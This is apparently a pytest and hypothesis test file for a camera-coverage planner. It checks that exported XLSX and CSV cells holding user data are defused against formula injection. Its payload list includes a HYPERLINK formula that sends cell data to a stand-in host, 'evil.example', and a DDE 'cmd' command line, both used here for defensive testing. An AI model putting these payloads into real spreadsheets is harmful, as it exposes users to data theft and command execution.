"""Issue 18, class 1 (formula injection): every exported cell from user data is inert.

Generated cases (derandomised, the ``ci`` profile): the rule itself 400 strings and 200
numbers (plus 17 table cases); plan lists (install, re-aim, routes, cost, pareto) 12 plans
of hostile route names, camera ids, addresses, site ids and notes, each list written as
XLSX and CSV; survey registers 10 of hostile camera ids, addresses, names and roles, as
XLSX and CSV, read back and written again; verification records 8 on XLSX and CSV
registers; OSM street names 5 ward files read by ``area_from_xml`` and written as
``routes.csv``/``.xlsx``. The file-writing counts are kept small: the machine is shared.
"""

from __future__ import annotations

import csv
import io
import math
import unicodedata
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest
from handmade import write_osm
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from toy_plan import toy_plan

from covplan import area_from_xml
from covplan._text import csv_text, formula_like, inert_cell, revive_cell
from covplan.export.tables import install_list, reaim_list, write_csv, write_table, write_xlsx
from covplan.survey import read_survey, record_verification, write_survey

TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\uff1d"]
PAYLOADS = [
    "1+1",
    'HYPERLINK("http://evil.example/?q="&A1,"bấm")',
    "cmd|' /C calc'!A0",
    "SUM(A1:A9)",
    "2+3",
    "=1",
    "@x",
    "",
]


@st.composite
def hostile(draw: Any) -> str:
    """A string a spreadsheet would run: optional spaces, a trigger, a payload, a tail."""
    lead = draw(st.sampled_from(["", " ", "  ", "\u00a0", "\u200b"]))
    trig = draw(st.sampled_from(TRIGGERS))
    body = draw(st.sampled_from(PAYLOADS))
    tail = draw(st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=12))
    size = draw(st.sampled_from([0, 0, 0, 300]))
    return lead + trig + body + tail + "x" * size


TEXT = st.one_of(
    hostile(),
    st.text(max_size=20),
    st.sampled_from(["Kiệt 12 Lê Lợi", "'=quoted", "-", "+84905123456", "-5", "-1,5"]),
)


def _is_live(text: str) -> bool:
    """A CSV cell a spreadsheet runs: formula-like and not defused."""
    return formula_like(text)


# ----------------------------------------------------------------------------- the rule


@settings(max_examples=400)
@given(TEXT)
def test_rule_defuses_and_round_trips(text: str) -> None:
    out = inert_cell(text)
    assert not _is_live(out)
    assert revive_cell(out) == text
    assert revive_cell(inert_cell(revive_cell(out))) == text  # stable over many round trips
    if formula_like(text):
        assert out == "'" + text


@settings(max_examples=200)
@given(st.one_of(st.integers(), st.floats(allow_nan=True), st.booleans(), st.none()))
def test_rule_keeps_numbers(value: Any) -> None:
    assert inert_cell(value) is value


@pytest.mark.parametrize("text", ["-5", "+84905123456", "-1,5", "-0.25", "+1e5", "12"])
def test_numbers_spelled_as_text_stay_numbers(text: str) -> None:
    assert not formula_like(text) and inert_cell(text) == text


@pytest.mark.parametrize("text", [*TRIGGERS, " =1", "\u200b=1", "-5+cmd", "@SUM(1)", "-"])
def test_triggers(text: str) -> None:
    assert formula_like(text)


def test_csv_text_quotes_separators() -> None:
    text = csv_text([["a;=1", "b\t=2", 'c"d', -5, None, float("nan"), "=x"]])
    assert next(csv.reader(io.StringIO(text))) == ["a;=1", "b\t=2", 'c"d', "-5", "", "", "'=x"]
    assert text.startswith('"a;=1","b\t=2"')


# ------------------------------------------------------------------------------ helpers


def _check_xlsx(path: Path, numeric: set[str] = frozenset()) -> list[list[Any]]:  # type: ignore[assignment]
    """No cell of any sheet is a formula; formula-like text is quote-prefixed text."""
    wb = openpyxl.load_workbook(path)
    rows: list[list[Any]] = []
    for ws in wb.worksheets:
        header = [c.value for c in ws[1]]
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and formula_like(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
                col = header[cell.column - 1]
                if col in numeric and cell.row > 1 and cell.value is not None:
                    assert isinstance(cell.value, int | float), (col, cell.value)
            rows.append([c.value for c in row])
    return rows


def _check_csv(path: Path) -> list[list[str]]:
    """No CSV cell starts a formula; each reads back (revived) as text."""
    text = path.read_bytes().decode("utf-8-sig")  # no newline translation: CR stays CR
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for row in rows:
        for cell in row:
            assert not _is_live(cell), (path.name, cell)
    return rows


def _plan(names: list[str], ids: list[str], notes: list[str]) -> dict[str, pd.DataFrame]:
    """The toy plan's lists, with user text replaced by hostile strings."""
    t = toy_plan()
    a = t.area
    routes = a.routes.copy()
    routes["name"] = names[: len(routes)]
    groups = a.groups.copy()
    groups["name"] = notes[:2]
    cams = t.cameras.copy()
    cams["camera_id"] = [f"{i}{k}" for k, i in enumerate(ids[:4])]
    cams["address"] = notes[2:6]
    chosen = t.chosen.copy()
    chosen.loc[chosen.source == "reaim", "camera_id"] = list(cams["camera_id"][:2])
    chosen.loc[chosen.source == "keep", "camera_id"] = cams["camera_id"].iloc[2]
    sites = t.sites.copy()
    sites["site_id"] = [f"{i}{k}" for k, i in enumerate(ids[4:7])]
    chosen.loc[chosen.source == "new", "site_id"] = list(sites["site_id"])
    new = chosen[chosen.source == "new"]
    il = install_list(new, sites=sites, routes=routes, groups=groups, catalogue=t.catalogue)
    ra = reaim_list(chosen[chosen.source == "reaim"], cams, routes=routes, groups=groups)
    cost = pd.DataFrame(
        {"part": notes[:3], "count": [2, -1, 0], "cost_vnd": [-5.0, 1.2e6, math.nan]}
    )
    pareto = pd.DataFrame({"budget_vnd": [-5, 10_000_000], "note": notes[6:8]})
    routes_table = routes.drop(columns="geometry").reset_index(drop=True)
    return {"install": il, "reaim": ra, "routes": routes_table, "cost": cost, "pareto": pareto}


# --------------------------------------------------------------------------- plan lists


@settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.lists(TEXT, min_size=3, max_size=3),
    st.lists(hostile(), min_size=7, max_size=7),
    st.lists(TEXT, min_size=8, max_size=8),
)
def test_plan_lists_inert(
    tmp_path_factory: pytest.TempPathFactory, names: list[str], ids: list[str], notes: list[str]
) -> None:
    out = tmp_path_factory.mktemp("lists")
    lists = _plan(names, ids, notes)
    for stem in ("install", "reaim"):
        files = write_table(lists[stem], out / stem, formats=("xlsx", "csv"))
        _check_xlsx(files[0], numeric={"Vĩ độ", "Kinh độ", "Giá (VND)"})
        rows = _check_csv(files[1])
        codes = [revive_cell(r[1]) for r in rows[1:]]
        assert codes == list(lists[stem]["code"])
        lat = [float(r[rows[0].index("Vĩ độ")]) for r in rows[1:]]
        assert lat == pytest.approx(list(lists[stem]["lat"]))  # numbers stay numbers
    for stem in ("routes", "cost", "pareto"):
        write_xlsx(lists[stem], out / f"{stem}.xlsx", lang="en")
        write_csv(lists[stem], out / f"{stem}.csv", lang="en")
        _check_xlsx(out / f"{stem}.xlsx")
        rows = _check_csv(out / f"{stem}.csv")
        first = [revive_cell(r[0]) for r in rows[1:]]
        want = list(lists[stem].iloc[:, 0])
        assert first == [w if isinstance(w, str) else str(w) for w in want]
    ws = openpyxl.load_workbook(out / "cost.xlsx").active
    assert ws is not None and ws["C2"].value == -5 and ws["B3"].value == -1  # negatives numeric
    wr = openpyxl.load_workbook(out / "routes.xlsx").active
    assert wr is not None
    got = [wr.cell(row=r, column=2).value or "" for r in range(2, 5)]
    want = [ILLEGAL_CHARACTERS_RE.sub("\ufffd", n).replace("\r", "\n") for n in names]
    assert [g.replace("\r", "\n") for g in got] == want  # text intact (XML folds CR)


# ------------------------------------------------------------------------ survey register


def _survey_csv(path: Path, ids: list[str], addresses: list[str], people: list[str]) -> Path:
    rows: list[list[Any]] = [["camera_id", "owner_name", "role", "owner_kind", "address", "lat"]]
    rows[0] += ["lon", "heading_deg"]
    for k, (cid, addr) in enumerate(zip(ids, addresses, strict=True)):
        rows.append(
            [f"{cid}{k}", people[2 * k], people[2 * k + 1], "household", addr, 16.463 + k / 1e4]
        )
        rows[-1] += [107.585, 90]
    buf = io.StringIO(newline="")
    csv.writer(buf, lineterminator="\r\n").writerows(rows)  # raw, as an attacker writes it
    path.write_text(buf.getvalue(), encoding="utf-8")
    return path


PRINTABLE = st.text(st.characters(codec="utf-8", categories=("L", "N", "P", "S")), max_size=10)


@st.composite
def cell_text(draw: Any) -> str:
    """Hostile text the survey reader keeps as it is (it trims and folds spaces)."""
    return (
        draw(st.sampled_from([*TRIGGERS[:4], "\uff1d"]))
        + draw(st.sampled_from(PAYLOADS[:5]))
        + draw(PRINTABLE)
    )


@pytest.fixture
def _owner_key(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("COVPLAN_OWNER_KEY", raising=False)
    monkeypatch.setenv("COVPLAN_OWNER_KEY_FILE", str(tmp_path / "keys" / "owner.key"))


@settings(max_examples=10, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    st.lists(cell_text(), min_size=3, max_size=3),
    st.lists(cell_text(), min_size=3, max_size=3),
    st.lists(cell_text(), min_size=6, max_size=6),
)
@pytest.mark.usefixtures("_owner_key")
def test_survey_register_inert_and_stable(
    tmp_path_factory: pytest.TempPathFactory,
    ids: list[str],
    addresses: list[str],
    people: list[str],
) -> None:
    out = tmp_path_factory.mktemp("survey")
    src = read_survey(_survey_csv(out / "in.csv", ids, addresses, people), lenient=True)
    want_ids = list(src.cameras["camera_id"])
    assert want_ids == [unicodedata.normalize("NFC", f"{c}{k}").strip() for k, c in enumerate(ids)]
    for suffix in (".xlsx", ".csv"):
        path = write_survey(src, out / f"s{suffix}", include_contacts=True)
        if suffix == ".xlsx":
            _check_xlsx(path)
        else:
            _check_csv(path)
        back = read_survey(path, lenient=True)
        assert list(back.cameras["camera_id"]) == want_ids  # write → read gives the text back
        assert list(back.cameras["address"]) == list(src.cameras["address"])
        assert list(back.contacts["name"]) == list(src.contacts["name"])
        again = write_survey(back, out / f"t{suffix}", include_contacts=True)
        assert again.read_bytes() == path.read_bytes() or suffix == ".xlsx"
        assert list(read_survey(again, lenient=True).cameras["camera_id"]) == want_ids


@settings(max_examples=8, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.lists(cell_text(), min_size=3, max_size=3), cell_text())
@pytest.mark.usefixtures("_owner_key")
def test_verification_records_inert(
    tmp_path_factory: pytest.TempPathFactory, ids: list[str], note: str
) -> None:
    out = tmp_path_factory.mktemp("register")
    src = read_survey(_survey_csv(out / "in.csv", ids, ids, ids + ids), lenient=True)
    cid = str(src.cameras["camera_id"].iloc[1])
    for suffix in (".xlsx", ".csv"):
        path = write_survey(src, out / f"r{suffix}", include_contacts=True)
        record_verification(path, cid, {"verdict": note, "evidence": [note, -5]})
        if suffix == ".xlsx":
            _check_xlsx(path)
        else:
            _check_csv(path)
            rows = _check_csv(path.with_name("r.verifications.csv"))
            assert [revive_cell(x) for x in rows[1][:1]] == [cid]
            assert revive_cell(rows[1][rows[0].index("verdict")]) == note
        back = read_survey(path, lenient=True)
        assert list(back.cameras["camera_id"]) == list(src.cameras["camera_id"])
        assert back.cameras.set_index("camera_id").loc[cid, "status"] == "verified"


# ----------------------------------------------------------------------- OSM street names


@settings(max_examples=5, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.lists(cell_text(), min_size=2, max_size=2, unique=True))
def test_osm_street_names_inert(tmp_path_factory: pytest.TempPathFactory, names: list[str]) -> None:
    out = tmp_path_factory.mktemp("osm")
    nodes = {1: (0.0, 0.0), 2: (0.0, 80.0), 3: (0.0, 160.0), 4: (60.0, 80.0), 5: (120.0, 80.0)}
    ways = [
        ([1, 2, 3], {"highway": "residential", "name": f"Kiệt {names[0]}"}),
        ([2, 4, 5], {"highway": "service", "name": names[1]}),
    ]
    area = area_from_xml(write_osm(out / "w.osm", nodes, ways))
    routes = area.routes.drop(columns="geometry")
    assert set(routes["name"]) >= {names[1]}
    write_csv(routes, out / "routes.csv")
    write_xlsx(routes, out / "routes.xlsx")
    rows = _check_csv(out / "routes.csv")
    col = [h for h in rows[0] if h in {"Tên tuyến", "Tên", "name"}] or [rows[0][1]]
    got = {revive_cell(r[rows[0].index(col[0])]) for r in rows[1:]}
    assert names[1] in got
    _check_xlsx(out / "routes.xlsx")
